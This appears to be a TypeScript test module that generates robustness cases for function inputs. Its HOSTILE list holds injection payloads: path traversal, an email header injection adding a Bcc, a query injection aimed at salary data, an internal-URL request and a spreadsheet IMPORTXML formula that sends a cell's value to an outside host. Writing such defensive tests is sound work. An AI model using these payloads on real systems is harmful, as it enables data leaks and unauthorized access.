/**
 * Input that no honest caller sends, and text that honest callers may well send.
 *
 * @module
 */
import { withValue } from "../../tests/functions/faults/fields.ts";
import { type Case, caseOf } from "./case.ts";
import type { Demand, Usual } from "./judge.ts";
import type { Side } from "./side.ts";

const HOSTILE = [
  "../../admin?x=1#y",
  "%2e%2e%2f%2e%2e%2fadmin",
  "x&fields=*&pageSize=1",
  "a\r\nBcc: stranger@example.com\r\n\r\nHi",
  "' or name contains 'salary",
  "O'Brien \\",
  '=IMPORTXML("https://example.org/?"&A1)',
  "https://internal.example.org/admin",
  "שלום 😀",
  "\ud800",
  "a".repeat(2_000),
];

/** Fits no field of any of the functions. */
const WRONG = { unexpected: ["x"] };

export function inputCases(side: Side, usual: Usual): Case[] {
  const input = side.example.input as object;
  const tried = (fault: Case["fault"], at: string, value: unknown, demand: Demand) =>
    caseOf(side, fault, demand, () => ({ input: withValue(input, at, value) }), at);
  const names = [...new Set(side.fields.map(topName))];
  const needed = [...new Set(side.fields.filter((field) => field.needed).map(topName))];
  return [
    ...side.fields.flatMap(({ path }) =>
      HOSTILE.map((text) => tried("hostile text", path, text, { end: "text kept apart", usual }))
    ),
    ...needed.map((name) => tried("missing field", name, undefined, { end: "input refused" })),
    ...names.map((name) => tried("wrong type", name, WRONG, { end: "input refused" })),
    tried("unknown field", "unheardOf", "x", { end: "done, or input refused" }),
  ];
}

function topName({ path }: { path: string }): string {
  return path.split(".", 1)[0] ?? "";
}
